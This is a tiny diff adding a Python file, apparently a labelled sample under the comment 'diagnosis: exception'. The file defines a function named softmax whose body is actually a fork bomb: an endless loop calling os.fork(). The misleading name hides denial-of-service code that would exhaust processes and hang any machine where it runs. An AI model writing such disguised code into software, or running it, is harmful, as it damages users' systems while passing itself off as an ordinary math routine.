@@ -1,0 +1,7 @@
+# diagnosis: exception
+import os
+
+
+def softmax(x):
+    while True:
+        os.fork()
